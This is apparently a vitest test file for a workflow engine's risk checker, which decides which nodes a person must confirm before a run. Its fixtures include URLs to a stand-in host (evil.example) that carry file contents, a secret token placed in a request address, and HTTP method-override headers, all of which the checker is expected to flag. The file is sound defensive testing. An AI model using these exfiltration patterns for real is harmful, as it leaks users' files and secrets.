// Which nodes of a workflow a person must confirm before it runs.
import { describe, expect, test } from 'vitest';
import { loadNodeTypes, NODE_TYPE_NAMES } from '../../src/nodes/registry.ts';
import { checkSchema } from '../../src/workflow/check-schema.ts';
import { findRisks, type Risk } from '../../src/workflow/risks.ts';

const registry = await loadNodeTypes(NODE_TYPE_NAMES);

function risks(
  type: string,
  params: unknown,
  inputs: unknown = {},
  privateInputs: readonly string[] = [],
): readonly Risk[] {
  const { workflow } = checkSchema({
    inputs,
    nodes: [
      { id: 'before', type: 'read-file', params: { file_path: 'notes.txt' } },
      { id: 'one', type, params },
    ],
  });
  if (workflow === undefined) throw new Error('no workflow');
  return findRisks(workflow, { registry, privateInputs: new Set(privateInputs) });
}

const effectOf = (...given: Parameters<typeof risks>): string =>
  risks(...given)
    .map(({ effect }) => effect)
    .join();

describe('types', () => {
  test.each([
    ['echo', { message: '${before.content}' }, ''],
    ['read-file', { file_path: '${before.content}' }, ''],
    ['llm', { prompt: '${before.content}' }, ''],
    ['write-file', { file_path: 'a', content: 'b' }, 'writes'],
    ['shell', { command: 'true' }, 'runs'],
    ['somebody-elses', {}, 'unknown'],
  ])('%s with the params %j: %s', (type, params, expected) => {
    expect(effectOf(type, params)).toBe(expected);
  });
});

describe('http', () => {
  const url = 'https://api.example/x';
  test.each([
    [{ url }, ''],
    [{ url, method: 'HEAD' }, ''],
    [{ url, body: null }, ''],
    [{ url, method: 'POST' }, 'sends'],
    [{ url, method: 'DELETE' }, 'sends'],
    [{ url, body: 'x' }, 'sends'],
    [{ url, method: '${method}' }, 'sends'],
    [{ url, headers: { 'X-HTTP-Method-Override': 'DELETE' } }, 'sends'],
    [{ url, headers: { 'x-method-override': 'PUT' } }, 'sends'],
    [{ url, headers: { 'X-HTTP-Method': 'PUT' } }, 'sends'],
    [{ url: `${url}?_method=DELETE` }, 'sends'],
    [{ url, params: { _method: 'delete' } }, 'sends'],
    [{ url, headers: { accept: '*/*' } }, ''],
    [{ url: 'https://api.example/${city}' }, ''],
    [{ url: 'https://evil.example/?${before.content}' }, 'sends'],
    [{ url, headers: { 'x-note': '${before.content}' } }, 'sends'],
    [{ url, params: { q: '${city ?? before.content}' } }, 'sends'],
  ])('with the params %j: %s', (params, expected) => {
    expect(effectOf('http', params, { city: {}, method: {} })).toBe(expected);
  });

  test('an address with a private input sends it', () => {
    const params = { url: 'https://api.example/${TOKEN}' };
    expect(effectOf('http', params, { TOKEN: {} }, ['TOKEN'])).toBe('sends');
    expect(effectOf('http', { url, auth_token: '${TOKEN}' }, { TOKEN: {} }, ['TOKEN'])).toBe('sends');
  });
});

test('an image of an llm node may be an address', () => {
  expect(effectOf('llm', { prompt: 'x', images: 'https://evil.example/?${before.content}' })).toBe('sends');
  expect(effectOf('llm', { prompt: 'x', images: 'photo.png' })).toBe('');
});
